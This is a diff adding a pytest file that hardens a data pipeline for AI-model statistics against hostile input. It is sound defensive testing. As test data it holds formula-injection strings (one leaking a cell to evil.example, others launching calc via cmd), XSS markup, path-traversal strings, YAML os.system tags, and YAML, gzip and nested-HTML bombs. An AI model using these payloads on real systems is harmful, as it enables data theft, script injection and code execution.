@@ -1,0 +1,324 @@
+"""Hostile input: formulas, markup, paths, invisible characters, huge and nested documents, bombs.
+
+Policy tested here (documented in the modules):
+- Registry (our own YAML): invalid UTF-8, control characters (also as YAML escapes like
+  "\\0"), bidirectional overrides, Python tags and aliases are refused with
+  RegistryError naming the file and line.
+- Live sources (third parties): invalid UTF-8 is decoded as U+FFFD; control characters
+  and bidirectional overrides are removed (`pipeline.collect.observations_frame`).
+- CSV outputs: formula-leading text cells get a leading apostrophe (`pipeline.io`).
+- HTML report: every value escaped. Extraction: HTML deeper than MAX_HTML_DEPTH refused.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import re
+import signal
+import subprocess
+import sys
+import textwrap
+import time
+from contextlib import contextmanager
+from pathlib import Path
+
+import pandas as pd
+import pytest
+import yaml
+
+from pipeline import extract, merge, report, trends, units, validate
+from pipeline.io import FORMULA_PREFIXES, write_csv
+from pipeline.sources import epoch, registry, wikipedia
+from tests.conftest import REPO, VALIDATE_PARAMS
+from tests.httpserver import LoopbackServer, Route, gzip_bomb
+from tests.test_merge import PARAMS as MERGE_PARAMS
+from tests.test_report import REPORT_PARAMS, TREND_PARAMS
+
+MEGABYTE_NAME = "L" * 1_000_000
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted"]
+MARKUP = ['<script>alert("x")</script>', "<img src=x onerror=alert(1)>", "javascript:alert(1)",
+          '"><svg onload=alert(1)>', "--><script>alert(2)</script><!--"]
+PATHS = ["../../etc/passwd", "..\\..\\windows\\system32", "/absolute/path", "a/b/../../c"]
+HOSTILE_TEXT = FORMULAS + MARKUP + PATHS + ["Mirror\u202egnp.exe", "Isolate\u2066x\u2069"]
+# What the registry accepts (it refuses control characters and bidirectional overrides).
+REGISTRY_TEXT = [text for text in HOSTILE_TEXT if not registry.HIDDEN_CHARACTERS.search(text)]
+WIKI_CAPTION = "List of large language models"
+
+
+@contextmanager
+def time_limit(seconds: int):
+    """Fail instead of hanging (pytest-timeout is not installed)."""
+    def expire(*_):
+        raise TimeoutError(f"took more than {seconds} s")
+    previous = signal.signal(signal.SIGALRM, expire)
+    signal.alarm(seconds)
+    try:
+        yield
+    finally:
+        signal.alarm(0)
+        signal.signal(signal.SIGALRM, previous)
+
+
+def _entry(position: int, name: str, notes: str | None = None) -> dict:
+    return {"name": name, "organization": "Org", "publication_date": f"{2000 + position % 20}-03-04",
+            "domain": "Language", "params_total": 1e9 * (position + 1), "training_tokens": 2e10 * (position + 1),
+            "mmlu": 30.0 + position % 60, "open_weights": True, "url": f"https://example.org/{position}",
+            "evidence": {"params_total": "p", "training_tokens": "t", "mmlu": "m"}, "notes": notes or name}
+
+
+def _write_registry(directory: Path, entries: list[dict], name: str = "hostile.yaml") -> Path:
+    directory.mkdir(parents=True, exist_ok=True)
+    path = directory / name
+    path.write_text(yaml.safe_dump({"models": entries}, allow_unicode=True, width=10**9), encoding="utf-8")
+    return path
+
+
+def _epoch_csv(names: list[str]) -> str:
+    years = [2000 + position % 25 for position in range(len(names))]
+    rows = pd.DataFrame({"Model": names, "Domain": "Language", "Publication date": [f"{year}-02-03" for year in years],
+                         "Parameters": [f"{10 ** (6 + (year - 2000) / 5):g}" for year in years],
+                         "Training compute (FLOP)": [f"{10 ** (18 + (year - 2000) / 4):g}" for year in years],
+                         "Notes": names})
+    return rows.to_csv(index=False, quoting=csv.QUOTE_ALL)  # pandas leaves a bare "\r" unquoted
+
+
+def _wikipedia_page(rows: str) -> str:
+    return (f'<table class="wikitable"><caption>{WIKI_CAPTION}</caption>'
+            f"<tr><th>Name</th><th>Number of parameters (billion)</th></tr>{rows}</table>")
+
+
+def _assert_formulas_neutralised(path: Path) -> int:
+    """Every text cell of the CSV that a spreadsheet would run starts with an apostrophe; returns how many."""
+    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
+    quoted = 0
+    for cell in frame.to_numpy().ravel():
+        assert not cell.startswith(FORMULA_PREFIXES) or re.fullmatch(r"-?\d[\d.e+-]*", cell), (path.name, cell)
+        quoted += cell.startswith("'")
+    return quoted
+
+
+# -- the whole chain: parsers → validate → merge → CSV and report -------------------------------------
+
+
+@pytest.fixture(scope="module")
+def hostile_chain(tmp_path_factory):
+    root = tmp_path_factory.mktemp("hostile")
+    _write_registry(root / "registry", [_entry(i, text) for i, text in enumerate(REGISTRY_TEXT)])
+    sources = {
+        "registry": registry.parse({"path": str(root / "registry")}),
+        "epoch": epoch.observations_from_csv(_epoch_csv(HOSTILE_TEXT + ["Nul\x00Byte"]), "epoch.csv", "https://e.example")[0],
+        "wikipedia": wikipedia.observations_from_page(
+            _wikipedia_page("".join(f"<tr><td>{text.replace('<', '&lt;')}</td><td>7</td></tr>" for text in HOSTILE_TEXT)),
+            WIKI_CAPTION, "https://w.example", "page.html"),
+    }
+    observations = pd.concat(list(sources.values()), ignore_index=True)
+    result = validate.validate_observations(observations, VALIDATE_PARAMS)
+    merged = merge.merge_observations(result.valid, MERGE_PARAMS)
+    out = root / "out"
+    for name, frame in [("quarantine", result.quarantined), *merged.items()]:
+        write_csv(out / f"{name}.csv", frame)
+    metrics, frontier = trends.compute_metrics(merged["models"], TREND_PARAMS)
+    report.build_report(merged["models"], json.loads(json.dumps(metrics)), frontier, result.summary,
+                        {**REPORT_PARAMS, "label_top_n": 40}, out / "reports")
+    return {"sources": sources, "result": result, "merged": merged, "out": out}
+
+
+def test_every_hostile_observation_is_counted(hostile_chain):
+    sources, result, merged = hostile_chain["sources"], hostile_chain["result"], hostile_chain["merged"]
+    assert {name: len(frame) for name, frame in sources.items()} == {
+        "registry": len(REGISTRY_TEXT), "epoch": len(HOSTILE_TEXT) + 1, "wikipedia": len(HOSTILE_TEXT)}
+    observed = sum(len(frame) for frame in sources.values())
+    matches = merged["matches"]
+    merged_duplicates = int((matches["rule"] != "new_model").sum())
+    assert len(matches) == len(result.valid)
+    assert observed == len(merged["models"]) + merged_duplicates + len(result.quarantined)
+
+
+def test_csv_outputs_neutralise_formula_cells(hostile_chain):
+    quoted = {path.name: _assert_formulas_neutralised(path) for path in sorted(hostile_chain["out"].glob("*.csv"))}
+    assert quoted["models.csv"] >= len(FORMULAS) and quoted["matches.csv"] >= len(FORMULAS)
+    models = pd.read_csv(hostile_chain["out"] / "models.csv", dtype=str)
+    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")" in set(models["name"])
+    assert "''=already quoted" in set(models["name"]), "an apostrophe already there gets one more: reversible"
+
+
+def test_report_escapes_every_hostile_name(hostile_chain):
+    page = (hostile_chain["out"] / "reports" / "index.html").read_text(encoding="utf-8")
+    assert "&lt;script&gt;alert(" in page  # names reach the page (as figure labels), escaped
+    assert "<script" not in page.lower() and "<img" not in page.lower()
+    assert not re.search(r"""(href|src|on\w+)\s*=\s*["']?\s*javascript:""", page, re.IGNORECASE)
+
+
+def test_live_sources_lose_invisible_characters_and_ids_stay_ascii_slugs(hostile_chain):
+    for frame in hostile_chain["sources"].values():
+        assert frame["model_id"].str.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*").all()
+    for name in ("epoch", "wikipedia"):
+        text = " ".join(hostile_chain["sources"][name]["name"].dropna())
+        assert not re.search("[\x00\u202a-\u202e\u2066-\u2069]", text)
+    assert "NulByte" in set(hostile_chain["sources"]["epoch"]["name"])
+
+
+def test_pipeline_writes_only_into_its_output_folders(tmp_path, monkeypatch):
+    """parse → validate → merge through their command lines, in a repository-shaped folder."""
+    (tmp_path / "params.yaml").write_text((REPO / "params.yaml").read_text(encoding="utf-8"), encoding="utf-8")
+    _write_registry(tmp_path / "raw" / "registry", [_entry(i, text) for i, text in enumerate(REGISTRY_TEXT)])
+    monkeypatch.chdir(tmp_path)
+    before = {p for p in tmp_path.rglob("*") if p.is_file()}
+    from pipeline import parse
+
+    for source in ("registry", "epoch", "wikipedia", "huggingface", "announcements"):
+        parse.main([source, "--out", f"processed/observations/{source}.parquet"])
+    validate.main(["--observations", "processed/observations", "--valid", "processed/valid.parquet",
+                   "--quarantine", "processed/quarantine.csv", "--summary", "reports/validation.json"])
+    merge.main(["--valid", "processed/valid.parquet", "--models-csv", "processed/models.csv", "--models-parquet",
+                "processed/models.parquet", "--provenance", "processed/provenance.csv", "--matches",
+                "processed/matches.csv", "--conflicts", "processed/conflicts.csv"])
+    written = {p.relative_to(tmp_path).parts[0] for p in tmp_path.rglob("*") if p.is_file() and p not in before}
+    assert written == {"processed", "reports"}
+    assert not list(tmp_path.rglob("*.tmp"))
+    assert len(pd.read_csv("processed/models.csv")) == len(REGISTRY_TEXT)
+
+
+# -- the registry refuses what a curator must fix --------------------------------------------------------
+
+
+@pytest.mark.parametrize("name, problem", [
+    ('"Nul\\0Byte"', "U+0000"), ('"Bell\\aRing"', "U+0007"), ('"Mirror\\u202Egnp.exe"', "U+202E"),
+    ("!!python/object/apply:os.system ['echo pwned']", "could not determine a constructor"),
+    ("!!python/name:os.system", "could not determine a constructor"),
+])
+def test_registry_refuses_hidden_characters_and_python_tags(tmp_path, name, problem):
+    path = tmp_path / "2023.yaml"
+    path.write_text(f"models:\n  - name: {name}\n    domain: Language\n", encoding="utf-8")
+    with pytest.raises(registry.RegistryError, match=rf"{re.escape(str(path))}:2: .*{re.escape(problem)}"):
+        registry.read_file(path)
+
+
+def test_registry_refuses_invalid_utf8_and_raw_nul_naming_the_file(tmp_path):
+    for body in (b"models:\n  - name: Bad \xff\xfe\n", b"models:\n  - name: Raw \x00 nul\n"):
+        path = tmp_path / "bad.yaml"
+        path.write_bytes(body)
+        with pytest.raises(registry.RegistryError, match=re.escape(str(path))):
+            registry.read_file(path)
+
+
+def test_registry_refuses_billion_laughs_quickly(tmp_path):
+    levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
+    levels += [f"{chr(98 + i)}: &{chr(98 + i)} [{','.join([f'*{chr(97 + i)}'] * 9)}]" for i in range(8)]
+    path = tmp_path / "bomb.yaml"
+    path.write_text("\n".join(levels) + "\nmodels: [*i]\n", encoding="utf-8")
+    started = time.monotonic()
+    with pytest.raises(registry.RegistryError, match=r"bomb.yaml:2: malformed YAML: YAML aliases"):
+        registry.read_file(path)
+    assert time.monotonic() - started < 1
+
+
+def test_megabyte_names_and_notes_parse_in_bounded_time(tmp_path):
+    _write_registry(tmp_path / "registry", [_entry(0, MEGABYTE_NAME, notes=MEGABYTE_NAME)])
+    with time_limit(10):
+        assert registry.parse({"path": str(tmp_path / "registry")})["name"].str.len().tolist() == [1_000_000]
+        frame, _ = epoch.observations_from_csv(_epoch_csv([MEGABYTE_NAME]), "epoch.csv", "https://e.example")
+        assert len(frame) == 1
+        page = _wikipedia_page(f"<tr><td>{MEGABYTE_NAME}</td><td>7</td></tr>")
+        assert len(wikipedia.observations_from_page(page, WIKI_CAPTION, "https://w.example", "page.html")) == 1
+        assert isinstance(extract.extract(f"# Foo 7B\n\nFoo 7B has 7B parameters. {MEGABYTE_NAME}\n"), list)
+        with pytest.raises(units.UnitParseError, match="too long"):
+            units.parse_quantity(MEGABYTE_NAME)
+
+
+@pytest.mark.parametrize("document", [
+    pytest.param("<div>" * 100_000 + "Foo 7B has 7B parameters." + "</div>" * 100_000, id="100k-nested-divs"),
+    pytest.param("<table><tr><td>" * 30_000, id="30k-nested-tables"),
+])
+def test_deeply_nested_html_is_refused_quickly(document):
+    with time_limit(10):
+        with pytest.raises(extract.DocumentTooComplex, match="nested more than"):
+            extract.extract(document, content_type="text/html")
+        with pytest.raises(wikipedia.ContentError, match="nested more than"):
+            wikipedia.observations_from_page(document, WIKI_CAPTION, "https://w.example", "page.html")
+
+
+@pytest.mark.parametrize("document", [
+    pytest.param("<p>x</p>" * 50_000, id="50k-paragraphs"),
+    pytest.param("```" * 300_000 + "x", id="unclosed-code-fences"),
+    pytest.param("text <!--" * 250_000, id="unclosed-comments"),
+    pytest.param("[" * 300_000 + "](" * 300_000, id="link-brackets"),
+    pytest.param("1" * 1_000_000, id="digit-run"),
+    pytest.param("The model has 7B parameters and " * 30_000, id="megabyte-sentence"),
+])
+def test_pathological_documents_are_read_in_bounded_time(document):
+    with time_limit(10):
+        assert isinstance(extract.extract(document, content_type="text/html" if document[0] == "<" else None), list)
+
+
+def test_wikipedia_span_bomb_stays_small():
+    page = _wikipedia_page('<tr><td rowspan="100000" colspan="100000">x</td><td>7</td></tr>' * 200)
+    with time_limit(10):
+        rows = wikipedia.observations_from_page(page, WIKI_CAPTION, "https://w.example", "page.html")
+    assert len(rows) == 200
+
+
+# -- network bombs, measured in a fresh interpreter ------------------------------------------------------
+
+FETCH_IN_SUBPROCESS = textwrap.dedent("""
+    import resource, sys, time
+    from pipeline.http import Fetcher, FetchPolicy, TooLarge
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    started = time.monotonic()
+    policy = FetchPolicy(allowed_hosts=("127.0.0.1",), max_bytes=1_000_000, min_interval_s=0, retries=0)
+    try:
+        Fetcher(policy).get(sys.argv[1])
+        print("ACCEPTED")
+    except TooLarge as error:
+        print("REFUSED", error)
+    print("GROWTH_MB", (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024)
+    print("SECONDS", time.monotonic() - started)
+""")
+
+
+@pytest.mark.parametrize("route", [
+    pytest.param(Route(body=gzip_bomb(2_000_000_000), headers={"Content-Encoding": "gzip"}), id="gzip-bomb-2GB"),
+    pytest.param(Route(body=b"x" * 300_000_000, declared_length=0), id="endless-body-no-length"),
+], )
+def test_bombs_from_the_server_are_cut_with_bounded_memory_and_time(route):
+    if route.declared_length == 0:  # no Content-Length to refuse up front: the body just keeps coming
+        route = Route(body=route.body, headers={"Transfer-Encoding": "identity"})
+    with LoopbackServer({"/page": route}) as server:
+        result = subprocess.run([sys.executable, "-c", FETCH_IN_SUBPROCESS, server.url("/page")], cwd=REPO,
+                                capture_output=True, text=True, timeout=60)
+    report_lines = dict(line.split(" ", 1) for line in result.stdout.splitlines())
+    assert "REFUSED" in report_lines and "cap of 1000000 bytes" in report_lines["REFUSED"], result.stdout + result.stderr
+    assert float(report_lines["GROWTH_MB"]) < 200
+    assert float(report_lines["SECONDS"]) < 10
+
+
+# -- bugs in modules other engineers own -----------------------------------------------------------------
+
+
+def test_report_survives_mathtext_in_names(tmp_path):
+    from tests.test_report import _models
+
+    models = _models()
+    models.loc[38, "name"] = r"$\frac{1}{$"  # a labelled point: open, Language, among the best MMLU
+    metrics, frontier = trends.compute_metrics(models, TREND_PARAMS)
+    report.build_report(models, json.loads(json.dumps(metrics)), frontier,
+                        {"input_rows": 40, "valid_rows": 40, "quarantined_rows": 0, "by_source": {},
+                         "failed_checks": {}, "flags": {}}, REPORT_PARAMS, tmp_path)
+
+
+def test_megabyte_name_is_quarantined():
+    row = registry.entry_to_observation({**_entry(0, MEGABYTE_NAME), "__line__": 1}, "hostile.yaml:1")
+    result = validate.validate_observations(pd.DataFrame([row]), VALIDATE_PARAMS)
+    assert len(result.quarantined) == 1
+
+
+def test_epoch_snapshot_with_invalid_utf8_is_cleaned(tmp_path):
+    folder = tmp_path / "epoch" / "2026-01-01"
+    folder.mkdir(parents=True)
+    (folder / "all_ai_models.csv").write_bytes(_epoch_csv(["Bad \xff"]).encode("latin-1"))
+    (folder / "metadata.json").write_text(json.dumps({"url": "https://e.example",
+                                                      "files": [{"path": "all_ai_models.csv"}]}))
+    observations = epoch.parse({"path": str(tmp_path / "epoch"), "as_of": "2026-11-22"})
+    assert list(observations["name"]) == ["Bad \ufffd"]  # third-party text: bad bytes become U+FFFD
